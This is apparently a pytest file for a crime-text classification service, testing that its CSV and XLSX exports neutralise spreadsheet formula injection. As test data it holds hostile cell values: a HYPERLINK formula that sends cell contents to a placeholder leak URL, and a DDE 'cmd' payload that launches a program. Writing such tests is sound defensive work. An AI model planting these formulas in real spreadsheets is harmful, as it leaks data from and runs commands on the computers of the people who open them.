"""Formula injection (issue 16 #4, security review M1, L10): no written cell is a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from service.bulk import BulkOptions, classify_file
from service.bulk import io as bio
from service.bulk.crosswalk import build_crosswalk, write_crosswalk
from service.coding import Coder

LINK = '=HYPERLINK("http://x.invalid/?leak="&B2,"open")'
DANGEROUS = [LINK, "@SUM(1+1) theft", "+cmd|' /C calc'!A0", "-2+3 assault", "\tTAB theft", "=1+1"]
HARMLESS = ["-", "-12.5", "+44", "Theft of a bicycle", "#N/A", "#REF!", "a=b"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_neutralise_prefixes_a_quote(value: str) -> None:
    from service.bulk.formulas import neutralise

    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_neutralise_leaves_numbers_and_plain_text(value: str) -> None:
    from service.bulk.formulas import neutralise

    assert neutralise(value) == value


def _rows() -> list[list[str]]:
    rows = [["id", "text", "=evil header"]]
    for i, text in enumerate([*DANGEROUS, *HARMLESS]):
        rows.append([f"=ID{i}" if i == 0 else f"R{i}", text, "-"])
    return rows


def test_csv_output_neutralises_formula_cells(write_csv, coder: Coder, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    src = write_csv(_rows())
    out = tmp_path / "out.csv"
    classify_file(src, out, BulkOptions(text_column="text", id_column="id"), coder)
    with out.open(encoding="utf-8", newline="") as f:
        lines = list(csv.reader(f))
    assert lines[0][:3] == ["id", "text", "'=evil header"]
    texts = [line[1] for line in lines[1:]]
    assert texts == [*("'" + t for t in DANGEROUS), *HARMLESS]
    assert lines[1][0] == "'=ID0"
    assert all(line[2] == "-" for line in lines[1:])  # a lone '-' is left alone
    for line in lines:
        for cell in line:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") or cell in HARMLESS


def test_xlsx_output_holds_strings_never_formulas(write_csv, coder: Coder, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    src = write_csv(_rows())
    out = tmp_path / "out.xlsx"
    classify_file(src, out, BulkOptions(text_column="text", id_column="id"), coder)
    ws = load_workbook(out).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    assert header[:3] == ["id", "text", "=evil header"]
    texts = {c.value: c for c in ws["B"][1:]}
    assert set(texts) == {*DANGEROUS, *HARMLESS}  # the texts themselves, unchanged
    assert texts[LINK].data_type == "s" and texts[LINK].quotePrefix
    assert texts["#N/A"].data_type == "s"
    # L10: a file written by the tool and read back keeps its texts.
    back = [
        r["text"] for chunk in bio.open_reader(out).chunks(100) for r in chunk.table.to_pylist()
    ]
    assert back == [*DANGEROUS, *HARMLESS]


def test_xlsx_takes_zoned_timestamps_and_control_characters_in_headers(tmp_path: Path) -> None:
    import datetime as dt

    when = dt.datetime(2024, 5, 1, 12, 30, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    table = pa.table({"bad\x01header": ["x"], "when": pa.array([when], pa.timestamp("s", "UTC"))})
    out = tmp_path / "out.xlsx"
    bio.write_xlsx(out, table.column_names, [table])
    ws = load_workbook(out).active
    assert ws is not None
    assert [c.value for c in ws[1]] == ["badheader", "when"]
    assert ws["B2"].value == "2024-05-01T10:30:00+00:00"


def test_correspondence_tables_neutralise_national_codes(tmp_path: Path) -> None:
    coded = tmp_path / "coded.csv"
    coded.write_text(
        "offence_code,iccs_code,assigned_code,status\n"
        '"=HYPERLINK(""http://x"",""y"")",0101,0101,auto\n'
        "@A1,0501,,review\n",
        encoding="utf-8",
    )
    table = build_crosswalk(coded, "offence_code")
    as_csv, as_xlsx = tmp_path / "cw.csv", tmp_path / "cw.xlsx"
    write_crosswalk(table, as_csv)
    write_crosswalk(table, as_xlsx)
    with as_csv.open(encoding="utf-8", newline="") as f:
        codes = [r["national_code"] for r in csv.DictReader(f)]
    assert sorted(codes) == ['\'=HYPERLINK("http://x","y")', "'@A1"]
    wb = load_workbook(as_xlsx)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type not in ("f", "e"), (ws.title, c.coordinate)


def test_review_export_neutralises_texts_without_changing_what_training_sees(
    tiny_predictor,
    tmp_path: Path,  # type: ignore[no-untyped-def]
) -> None:
    from service.normalize import default_normalizer
    from service.review.export import export_reviewed
    from service.review.store import ReviewStore

    store = ReviewStore.from_url(f"sqlite:///{tmp_path / 'r.sqlite3'}")
    try:
        text = '=HYPERLINK("http://x.invalid","y") theft of a bicycle'
        (coded,) = Coder(tiny_predictor, store).code([text], min_precision=0.999)
        assert coded.review_id is not None
        store.decide(coded.review_id, "=alice", "correct", code="0502", note="test")
        result = export_reviewed(store, tmp_path / "reviewed.csv")
    finally:
        store.engine.dispose()
    with result.path.open(encoding="utf-8", newline="") as f:
        (row,) = list(csv.DictReader(f))
    assert row["text"] == "'" + text and row["reviewer"] == "'=alice"
    norm = default_normalizer()
    assert norm(row["text"]) == norm(text)  # the corpus reads the same normalised text
